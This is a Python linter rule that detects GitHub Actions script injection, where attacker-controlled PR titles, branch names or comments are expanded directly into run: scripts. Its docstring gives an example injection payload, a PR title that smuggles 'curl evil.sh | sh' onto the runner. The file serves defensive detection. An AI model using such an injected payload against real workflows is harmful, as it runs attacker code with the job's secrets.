"""A `run:` script (or github-script) now expands attacker-controlled text.

## What it does
Reports a `${{ … }}` expression inside a step's `run:` (or `actions/github-script`'s `script:`)
that reads a context an outsider controls — pull request and issue titles and bodies, comment
and review bodies, branch names (`github.head_ref`, `…head.ref`), commit messages and author
names, `toJSON(github.event)` (OpenSSF Scorecard Dangerous-Workflow) — when the step did not
expand it before. A step moved unchanged from another job of the workflow, or of one beside it
(jobs split, renamed or merged), brings nothing new and stays silent. Passing the value through
`env:` and using `"$VAR"` is the safe form and stays silent.

## Why is this bad?
GitHub substitutes the expression into the script *before* the shell runs it, so a pull request
titled `"; curl evil.sh | sh; #` runs code on the runner, with the job's token and secrets.

## Example
```yaml
# base                                   # head
- run: echo "$TITLE"                     - run: echo "${{ github.event.pull_request.title }}"
  env:
    TITLE: ${{ github.event.pull_request.title }}
```

## How to resolve
Move the value into `env:` and quote the variable, or approve the finding with the reason.

## Options
None.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterator
from typing import Any

from regress.findings import Category, Severity
from regress.kinds.ci.model import FAMILY, Step
from regress.kinds.ci.pairing import pair_steps
from regress.kinds.ci.signals import UNTRUSTED_CONTEXTS
from regress.kinds.github.expr import expressions_in
from regress.model import Change
from regress.rules.base import Hit, Rule, RuleContext
from regress.rules.ci.helpers import base_jobs, callers_related, jobs, signature
from regress.rules.github import KINDS

_PATTERNS = [
    (
        ctx,
        re.compile(
            re.escape(ctx).replace(r"\*", r"[^.\s]+").replace(r"\(", r"\(\s*").replace(r"\)", r"\s*\)") + r"(?![\w-])"
        ),
    )
    for ctx in UNTRUSTED_CONTEXTS
]


def injected(step: Step) -> dict[str, str]:
    """Untrusted context → the script field that expands it."""
    out: dict[str, str] = {}
    fields = [("run", step.run)]
    if step.uses and step.uses.lower() == "actions/github-script":
        script = step.inputs.get("script")
        fields.append(("with.script", script if isinstance(script, str) else None))
    for field, text in fields:
        if not text:
            continue
        for body in expressions_in(text):
            low = body.lower()
            for ctx, pattern in _PATTERNS:
                if pattern.search(low):
                    out.setdefault(ctx, field)
    return out


def _moved_from(step: Step, ctx: RuleContext, change: Change, cache: dict[Any, set[str]]) -> set[str]:
    """The untrusted contexts the base already expanded in this very step elsewhere: the same
    script in another job of this workflow or one beside it (a job split, renamed or merged).
    ``cache`` holds the base's steps by signature, filled on the first call."""
    if not cache:
        assert change.after is not None
        cache[None] = set()  # filled, even when the base has no step at all
        for job in base_jobs(ctx, change.after):
            for s in job.steps:
                if s.via is None:
                    cache.setdefault(signature(s), set()).update(injected(s))
    return cache.get(signature(step), set())


def check(change: Change, ctx: RuleContext) -> Iterator[Hit]:
    before, after = jobs(change)
    if after is None:
        return
    paired = {id(sa): sb for sb, sa in pair_steps(before, after) if sa is not None} if before else {}
    cache: dict[Any, set[str]] = {}
    for step in after.steps:
        if step.via is not None:
            continue
        old = paired.get(id(step))
        had: Collection[str] = injected(old) if old is not None else {}
        if old is None and injected(step):
            had = _moved_from(step, ctx, change, cache)
        for context, field in injected(step).items():
            if context in had:
                continue
            route = (*step.route, *field.split("."))
            yield Hit(
                message=f"{step.label} of {after.label} in {after.pipeline} expands {context} directly into its "
                f"{field}: text from outside can run as code",
                attr=f"step[{step.key}].{field}[{context}]",
                head_route=route,
                base_route=old.route if old is not None else None,
                after=context,
                related=callers_related(after),
            )


RULE = Rule(
    code="GHA025",
    name="script-injection",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    kinds=KINDS,
    watches=((FAMILY, "job"),),
    check=check,
    doc=__doc__ or "",
    statuses=frozenset({"added", "modified", "renamed", "moved"}),
)
